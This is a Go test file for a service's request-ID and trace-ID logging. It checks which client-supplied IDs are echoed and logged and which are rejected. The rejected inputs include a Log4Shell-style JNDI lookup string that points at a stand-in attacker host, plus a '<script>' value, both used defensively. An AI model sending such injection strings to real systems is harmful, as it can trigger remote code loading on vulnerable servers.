package servicetest

import (
	"net/http"
	"strings"
	"testing"
)

// TestRequestIDs checks that one ID finds a request in the logs of a page, a proxy and the server,
// and that invalid IDs are not logged.
func TestRequestIDs(t *testing.T) {
	t.Parallel()
	s := newService(t)
	for id, kept := range map[string]bool{
		"7f3b1c9e-2d4a-4e8b-9c1f-0a2b3c4d5e6f":     true,
		"Root=1-67891233-abcdef012345678912345678": true,
		"mzXk/2Q+Yw==":                  true,
		strings.Repeat("x", 128):        true,
		strings.Repeat("x", 129):        false,
		"":                              false,
		"two words":                     false,
		"a\tb":                          false,
		`a"b`:                           false,
		"<script>":                      false,
		"größe":                         false,
		"a,b":                           false,
		"${jndi:ldap://evil.example/a}": false,
		"sk_" + strings.Repeat("ABCDEFGHIJKLMNOPQRST", 5): true, // it may look like a key, because it is the client's choice
	} {
		r := s.anonymous().call("GET", "/v1/sessions/current", nil, header("X-Request-Id", id))
		p := r.refused(http.StatusUnauthorized, "unauthenticated")
		if returned := r.Header.Get("X-Request-Id"); (returned == id) != kept || returned == "" || p.RequestID != returned {
			t.Errorf("the ID %q was returned as %q, and in the problem as %q", id, returned, p.RequestID)
		}
		if kept && !s.log.contains(`"requestID":"`+id+`"`) {
			t.Errorf("the log does not contain %q", id)
		}
		if !kept && id != "" && s.log.contains(id) {
			t.Errorf("the log contains %q", id)
		}
	}
	r := s.anonymous().call("GET", "/v1/sessions/current", nil, func(r *http.Request) {
		r.Header["X-Request-Id"] = []string{"one", "two"}
	})
	if returned := r.Header.Values("X-Request-Id"); len(returned) != 1 || returned[0] == "one" || returned[0] == "two" {
		t.Errorf("for a request with two IDs, got %q", returned)
	}
}

// TestTraceIDs checks that the log contains the trace ID of a request (W3C Trace Context).
func TestTraceIDs(t *testing.T) {
	t.Parallel()
	s := newService(t)
	const trace, parent = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
	for i, c := range []struct {
		traceparent string
		known       bool
	}{
		{"00-" + trace + "-" + parent + "-01", true},
		{"00-" + trace + "-" + parent + "-00", true},
		{"cc-" + trace + "-" + parent + "-01-what-the-future-holds", true},
		{"", false},
		{"00-" + trace + "-" + parent + "-01-more", false},
		{"cc-" + trace + "-" + parent + "-01.more", false},
		{"ff-" + trace + "-" + parent + "-01", false},
		{"00-" + strings.ToUpper(trace) + "-" + parent + "-01", false},
		{"00-" + strings.Repeat("0", 32) + "-" + parent + "-01", false},
		{"00-" + trace + "-" + strings.Repeat("0", 16) + "-01", false},
		{"00-" + trace + "-" + parent + "-0", false},
		{"00-" + trace + "--" + parent[1:] + "-01", false},
		{"00-" + trace[:30] + "zz-" + parent + "-01", false},
	} {
		id := strings.Repeat("i", i+1)
		s.anonymous().call("GET", "/v1/sessions/current", nil, header("Traceparent", c.traceparent), header("X-Request-Id", id))
		if got := s.log.contains(`"requestID":"` + id + `","traceID":"` + trace + `"}`); got != c.known {
			t.Errorf("%q: log contains the trace: %t", c.traceparent, got)
		}
		if got := s.log.contains(`"requestID":"` + id + `"}`); got == c.known {
			t.Errorf("%q: log contains the request without a trace: %t", c.traceparent, got)
		}
	}
}

// TestStreamEndLogsRequestID checks that the duration of a stream and the reason of its end are
// logged with the ID of the request that opened it.
func TestStreamEndLogsRequestID(t *testing.T) {
	t.Parallel()
	s := newService(t)
	alice := s.login("alice")
	stream, _ := alice.listen(header("X-Request-Id", "of-the-stream"))
	stream.disconnect()
	want := `"session":"` + string(alice.SessionID) + `","requestID":"of-the-stream"}`
	eventually(t, "the log contains the end of the stream", func() bool {
		return s.log.contains(want) && s.log.contains(`"msg":"stream ended","reason":"clientGone"`)
	})
}
